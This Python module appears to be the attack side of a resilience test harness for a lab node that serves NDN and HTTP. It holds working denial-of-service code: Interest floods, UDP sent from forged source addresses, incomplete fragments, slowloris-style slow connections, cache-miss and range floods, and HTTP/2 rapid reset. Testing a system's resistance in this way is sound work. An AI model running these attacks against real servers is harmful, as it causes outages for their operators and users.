"""The attacks. Each is a function that goes on until its process is ended; the rates keep it from merely taking the processor."""

import asyncio
import itertools
import os
import random
import socket
import ssl
import time

import clients
import network
import wire

ATTACKS = {}


def attack(words):
    """Registers an attack under its function's name, with a line that describes it."""
    def register(function):
        ATTACKS[function.__name__.replace("_", "-")] = (words, function)
        return function
    return register


def paced(rate, burst=20):
    """Yields numbers at this rate, so many at once."""
    due = time.monotonic()
    for number in itertools.count(0, burst):
        yield from range(number, number + burst)
        due += burst / rate
        time.sleep(max(0.0, due - time.monotonic()))


async def _open_many(count, connect, batch=50):
    """Opens connections, a batch at a time; those that are refused are left out."""
    opened = []
    for _ in range(0, count, batch):
        results = await asyncio.gather(*(connect() for _ in range(batch)), return_exceptions=True)
        opened += [result for result in results if not isinstance(result, BaseException)]
    return opened


async def _hold(count, connect, first, trickle=b"", handshake=None, every_s=1.0):
    """Opens connections, sends `first` on each, then `trickle` from time to time, and never reads.

    A handshake goes first, and its answer is awaited.

    A connection that the node closes is opened again.
    """
    async def one():
        while True:
            try:
                reader, writer = await connect()
                if handshake:
                    writer.write(handshake)
                    await reader.readuntil(b"\r\n\r\n")
                writer.write(first)
                await writer.drain()
                while True:
                    await asyncio.sleep(every_s)
                    writer.write(trickle)
                    await writer.drain()
                    if writer.is_closing():
                        break
                writer.close()
            except (OSError, asyncio.IncompleteReadError):
                await asyncio.sleep(1)

    tasks = []
    for number in range(count):
        tasks.append(asyncio.create_task(one()))
        if number % 50 == 49:
            await asyncio.sleep(0.05)
    await asyncio.gather(*tasks)


def _tcp(node, key):
    return lambda: asyncio.open_connection(node["address"], node[key], limit=1 << 14)


# ---- NDN ----


@attack("20,000 Interests a second with names nobody answers, on one TCP connection")
def interest_flood(node):
    sock = socket.create_connection((node["address"], node["tcp"]))
    for number in paced(20_000, 200):
        sock.sendall(wire.interest(wire.name(b"blackhole", str(number).encode()), 4000))


@attack("3,000 small UDP packets a second, each from another address")
def forged_udp(node):
    chance = random.Random(2)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in paced(3000, 30):
        source = f"10.{chance.choice((98, 99))}.{chance.randrange(256)}.{chance.randrange(1, 255)}"
        packet = wire.interest(wire.name(b"blackhole", str(number).encode()), 1000)
        datagram = wire.udp_datagram(source, chance.randrange(1024, 65536), node["address"], node["udp"], packet)
        raw.sendto(datagram, (node["address"], 0))


@attack("3,000 first fragments a second, from 500 addresses, whose packets are never completed")
def fragments(node):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in paced(3000, 30):
        source = f"10.98.{number % 250}.{1 + number // 250 % 2}"
        packet = wire.fragment(number * 8, 0, 6, b"\x05" * 1400)
        raw.sendto(wire.udp_datagram(source, 7000, node["address"], node["udp"], packet), (node["address"], 0))


@attack("3,050 WebSocket connections with 240 kB each of a message of 250 kB")
def partial_websocket(node):
    request = wire.websocket_request(f"{node['address']}:{node['websocket']}")
    first = wire.websocket_frame(b"\x06" * 240_000, announced=250_000)
    asyncio.run(_hold(3050, _tcp(node, "websocket"), first, handshake=request))


@attack("3,000 TCP connections with 8 kB each of a packet of 8.8 kB, a byte a second more")
def partial_tcp(node):
    asyncio.run(_hold(3000, _tcp(node, "tcp"), b"\x06\xfd\x22\x00" + b"\x07" * 8000, b"\x07"))


@attack("2,000 WebSocket handshakes that go on by a byte a second")
def partial_handshakes(node):
    asyncio.run(_hold(2000, _tcp(node, "websocket"), b"GET / HTTP/1.1\r\nHost: ", b"a"))


@attack("1,000 applications on the Unix socket with 8 kB each of a packet of 8.8 kB")
def partial_unix(node):
    async def connect():
        return await asyncio.open_unix_connection(node["unix"])
    asyncio.run(_hold(1000, connect, b"\x06\xfd\x22\x00" + b"\x07" * 8000, b"\x07"))


@attack("600 connections a second by TCP, WebSocket and the Unix socket, closed after a packet")
def face_churn(node):
    for number in paced(600, 6):
        try:
            if number % 3 == 0:
                sock = socket.socket(socket.AF_UNIX)
                sock.connect(node["unix"])
            else:
                sock = socket.create_connection((node["address"], node[("tcp", "websocket")[number % 3 - 1]]), 2)
            if number % 3 == 2:
                sock.sendall(wire.websocket_request("a"))
            else:
                sock.sendall(wire.interest(wire.name(b"blackhole", str(number).encode())))
            sock.close()
        except OSError:
            time.sleep(0.01)


@attack("200 TCP connections that ask for 8 kB packets and never read them")
def silent_readers(node):
    async def main():
        run = str(os.getpid()).encode()
        asks = b"".join(
            wire.interest(wire.name(b"large", b"ping", run, str(number).encode())) for number in range(400))
        await _hold(200, _tcp(node, "tcp"), asks, wire.interest(wire.name(b"large", b"ping", run, b"0")))
    asyncio.run(main())


@attack("3,000 UDP packets a second and 200 connections a second of random bytes")
def malformed_packets(node):
    chance = random.Random(3)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for number in paced(3000, 30):
        udp.sendto(chance.randbytes(chance.randrange(1, 1200)), (node["address"], node["udp"]))
        if number % 15 == 0:
            try:
                with socket.create_connection((node["address"], node["tcp"]), 2) as tcp:
                    tcp.sendall(chance.randbytes(300))
            except OSError:
                pass


# ---- HTTP ----


@attack("60 uploads of a byte a second")
def slow_uploads(node):
    first = b"POST /upload HTTP/1.1\r\nhost: example.test\r\ncontent-length: 100000\r\n\r\n"
    asyncio.run(_hold(60, _tcp(node, "http"), first, b"u"))


@attack("1,000 requests whose heads come by a byte a second")
def slow_heads(node):
    asyncio.run(_hold(1000, _tcp(node, "http"), b"GET / HTTP/1.1\r\nhost: ", b"a"))


async def _slow_readers(node, targets, bytes_per_second=5000):
    """One connection for each target, read at this rate; one that ends or breaks off begins again."""
    async def one(target):
        while True:
            try:
                sock = socket.socket()
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 16384)
                sock.setblocking(False)
                loop = asyncio.get_running_loop()
                await loop.sock_connect(sock, (node["address"], node["http"]))
                await loop.sock_sendall(sock, clients.get(target))
                while await loop.sock_recv(sock, bytes_per_second):
                    await asyncio.sleep(1)
                sock.close()
            except OSError:
                await asyncio.sleep(1)

    await asyncio.gather(*(one(target) for target in targets))


def stored_large(number):
    """An object that the disk tier has since before the attacks."""
    return f"/4000000/large-{number}"


def _stored():
    return [stored_large(number) for number in range(40)] + [clients.disk_target(number) for number in range(200)]


@attack("40 clients that read objects of 4 MB and 200 that read objects of 200 kB from the disk tier, 5 kB a second each")
def slow_downloads_from_disk(node):
    asyncio.run(_slow_readers(node, _stored()))


@attack("100 clients that read 100 objects of 8 MB that are fetched for them, 5 kB a second each")
def slow_downloads_of_misses(node):
    run = os.getpid()
    asyncio.run(_slow_readers(node, [f"/8000000/slow-{run}-{number}" for number in range(100)]))


@attack("the same slow readers of the disk tier, while the origin is down")
def slow_downloads_without_origin(node):
    asyncio.run(_slow_readers(node, _stored()))


@attack("400 connections a second, closed after a request whose answer nobody reads")
def connection_churn(node):
    for number in paced(400, 4):
        try:
            with socket.create_connection((node["address"], node["http"]), 2) as sock:
                sock.sendall(clients.get(f"/1000/hit-{number % 20}"))
        except OSError:
            time.sleep(0.01)


def _http_flood(node, rate, request):
    """Requests on 20 connections; answers are read and left."""
    async def main():
        pool = clients.HttpPool(node["address"], node["http"])
        due, running = time.monotonic(), set()
        for number in itertools.count():
            due += 1 / rate
            await asyncio.sleep(max(0.0, due - time.monotonic()))
            if len(running) < 20:
                task = asyncio.create_task(pool.exchange(request(number)))
                running.add(task)
                task.add_done_callback(lambda done: (running.discard(done), done.cancelled() or done.exception()))
    asyncio.run(main())


@attack("300 requests a second with no-cache for one object of 10 kB")
def no_cache_storm(node):
    _http_flood(node, 300, lambda _: clients.get("/10000/no-cache", "cache-control: no-cache"))


@attack("300 requests a second for objects that nobody asked for before")
def miss_flood(node):
    run = os.getpid()
    _http_flood(node, 300, lambda number: clients.get(f"/1000/flood-{run}-{number}"))


@attack("100 requests a second for fifty ranges each of an object of 4 MB")
def range_storm(node):
    ranges = ",".join(f"{start * 70_000}-{start * 70_000 + 9}" for start in range(50))
    _http_flood(node, 100, lambda number: clients.get(stored_large(number % 4), f"range: bytes={ranges}"))


@attack("200 connections a second with malformed heads, or heads of 100 kB")
def malformed_requests(node):
    chance = random.Random(4)
    large = b"GET / HTTP/1.1\r\nhost: a\r\nx: " + b"a" * 100_000
    for number in paced(200, 4):
        try:
            with socket.create_connection((node["address"], node["http"]), 2) as sock:
                sock.settimeout(2)
                sock.sendall(large if number % 4 == 0 else chance.randbytes(200) + b"\r\n\r\n")
        except OSError:
            pass


@attack("2,000 HTTP/2 requests a second that are reset at once, on 10 connections")
def http2_rapid_reset(node):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    # GET https://a/1000/reset in HPACK: static table entries 2 and 7, literals for :path and :authority.
    path, authority = b"/1000/reset", b"a"
    head = bytes([0x82, 0x87, 0x44, len(path)]) + path + bytes([0x41, len(authority)]) + authority

    def connect():
        raw = socket.create_connection((node["address"], node["https"]), 2)
        secure = context.wrap_socket(raw)
        secure.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + wire.http2_frame(4, 0, 0))
        return [secure, 1]

    connections = [None] * 10
    for number in paced(2000, 20):
        at = number // 20 % len(connections)
        try:
            if connections[at] is None:
                connections[at] = connect()
            connection = connections[at]
            stream = connection[1]
            connection[1] += 2
            connection[0].sendall(wire.http2_frame(1, 5, stream, head) + wire.http2_frame(3, 0, stream, bytes([0, 0, 0, 8])))
        except OSError:
            connections[at] = None


def _http2_client():
    """Connects from an address of its own, and begins HTTP/2 without TLS."""
    sock = socket.socket()
    sock.bind((STRANGER, 0))
    sock.connect(STRANGERS_NODE)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + wire.http2_frame(4, 0, 0))
    return sock


#: Another client than those that are measured.
STRANGER = "10.97.0.9"
STRANGERS_NODE = (network.NODE, 8080)


def _http2_streams(connections, streams, method, end, path):
    """Opens so many streams on each of so many connections, and keeps them open."""
    opened = []
    for at in range(connections):
        sock = _http2_client()
        for number in range(streams):
            target = path.format(os.getpid(), at, number).encode()
            # Static table entries 2 or 3 and 6, literals for :path and :authority.
            head = bytes([0x82 if method == "GET" else 0x83, 0x86, 0x44, len(target)]) + target + b"\x41\x01a"
            sock.sendall(wire.http2_frame(1, 5 if end else 4, 1 + 2 * number, head))
        opened.append(sock)
    return opened


def _hold_streams(connections, streams, method, end, path):
    while True:
        opened = _http2_streams(connections, streams, method, end, path)
        # The node times them out after a minute.
        time.sleep(20)
        for sock in opened:
            sock.close()


@attack("42 HTTP/2 connections with 125 POST each whose body never begins")
def empty_uploads(_node):
    _hold_streams(42, 125, "POST", False, "/upload/{}/{}/{}")


@attack("3 HTTP/2 connections with 120 GET each that the origin never answers")
def slow_gets(_node):
    _hold_streams(3, 120, "GET", True, "/never/{}/{}/{}")


@attack("10,050 TCP connections to the HTTP port that send nothing")
def silent_connections(node):
    async def connect():
        return await asyncio.open_connection(node["address"], node["http"], local_addr=(STRANGER, 0), limit=1 << 14)
    asyncio.run(_hold(10_050, connect, b""))


@attack("3,000 connections with a head of 62 kB each that never ends")
def endless_heads(node):
    async def connect():
        return await asyncio.open_connection(node["address"], node["http"], local_addr=(STRANGER, 0), limit=1 << 14)
    asyncio.run(_hold(3000, connect, b"GET / HTTP/1.1\r\nhost: a\r\nx: " + b"a" * 62_000))


def source_of_black_hole():
    """Takes the Interests of the route /blackhole and answers none, until the process ends."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((network.PEERS, 6399))
    while True:
        sock.recv(1 << 16)
